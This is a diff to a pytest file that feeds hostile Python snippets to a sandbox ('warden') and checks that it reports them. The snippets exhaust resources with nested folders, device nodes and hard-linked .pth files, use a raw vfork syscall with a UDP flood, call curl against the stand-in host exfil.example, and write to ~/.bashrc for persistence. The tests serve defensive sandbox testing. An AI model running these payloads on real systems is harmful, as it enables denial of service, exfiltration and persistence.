@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 from conftest import Snakehook
-from hostile import PROBES, assert_nothing_is_left, findings, in_turn
+from hostile import PROBES, assert_nothing_is_left, findings, in_turn, tight_jail
 from standins import Drip, Endless, Index, wheel
 
 as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gets a tmpfs and cgroups")
@@ -439,6 +439,17 @@ for n in range(2000):
             try: one.connect((f"127.1.{n // 250}.{n % 250 + 1}", 9))
             except OSError: pass
 """,
+    "a gigabyte of paths": """
+os.chdir("/tmp")
+for _ in range(97):
+    os.mkdir("d" * 250)
+    os.chdir("d" * 250)
+for n in range(60_000): os.mknod(f"{n:0250}")
+""",
+    "a gigabyte of .pth files": """
+open("/home/dev/links", "w").write("\\n" * 1_000_000)
+for n in range(10_000): os.link("/home/dev/links", f"/home/dev/.{n}.pth")
+""",
 }
 
 
@@ -447,6 +458,51 @@ def test_no_evidence_is_so_laborious_that_the_warden_is_not_waited_for(exhaust: 
     report = exhaust(source + "\nos.popen('curl http://exfil.example/').read()\ntime.sleep(3600)\n", RUN_TIMEOUT_SEC=8)
     assert report["outcome"] == "timeout", report["reason"]
     assert any("curl" in title for title in findings(report, "process.spawn"))
+
+
+UNBORN = """
+import ctypes
+def fork_that_does_not_return_until_its_child_is_gone():
+    call, flags = 220 if os.uname().machine == "aarch64" else 56, 0x4000 | signal.SIGCHLD  # clone, CLONE_VFORK
+    return ctypes.CDLL(None).syscall(ctypes.c_long(call), ctypes.c_long(flags), *[ctypes.c_long(0)] * 4)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+    if fork_that_does_not_return_until_its_child_is_gone() == 0:
+        for _ in range(80):
+            try: one.sendmsg([b"x" * 4096] * 200, [], 0, ("192.0.2.1", 9))
+            except OSError: pass
+        os._exit(0)
+os.popen("curl http://exfil.example/").read()
+"""
+
+
+def test_a_process_whose_birth_is_not_told_yet_does_not_use_up_the_warden_s_memory(
+    exhaust: Any, tmp_path: Path
+) -> None:
+    report = exhaust(UNBORN, JAIL_DIR=tight_jail(tmp_path, MAX_MEMORY_BYTES=320 << 20), RUN_TIMEOUT_SEC=40)
+    assert report["outcome"] == "ok", report["reason"]
+    assert any("192.0.2.1:9" in title for title in findings(report, "network.attempt"))
+    assert any("curl" in title for title in findings(report, "process.spawn"))
+
+
+def test_no_crowd_of_folders_hides_what_lies_above_it(exhaust: Any) -> None:
+    source = """
+place = os.path.dirname(os.path.abspath(__file__))
+for n in range(41_000): os.mkdir(f"{place}/{n}")
+open("/home/dev/.bashrc", "w").write("echo persisted")
+"""
+    report = exhaust(source)
+    assert any(".bashrc" in title for title in findings(report, "persistence.write"))
+    assert any("looked at" in title for title in findings(report, "limit.hit"))
+
+
+def test_names_that_are_not_kept_are_counted(exhaust: Any, tmp_path: Path) -> None:
+    source = """
+for n in range(150):
+    try: socket.getaddrinfo(f"n{n}.example.com", 80)
+    except OSError: pass
+"""
+    report = exhaust(source, JAIL_DIR=tight_jail(tmp_path))
+    assert any("name asked for" in title for title in findings(report, "limit.hit"))
 
 
 def test_a_long_row_of_harmless_findings_does_not_push_a_grave_one_out(exhaust: Any) -> None:
@@ -460,7 +516,6 @@ os.popen("curl http://exfil.example/").read()
     assert any(one["severity"] == "high" and "curl" in one["title"] for one in report["findings"])
 
 
-@pytest.mark.unmet
 def test_many_new_files_do_not_push_out_the_one_that_matters(exhaust: Any) -> None:
     source = """
 for n in range(2500): open(f"/home/dev/.a{n:05}", "w").close()
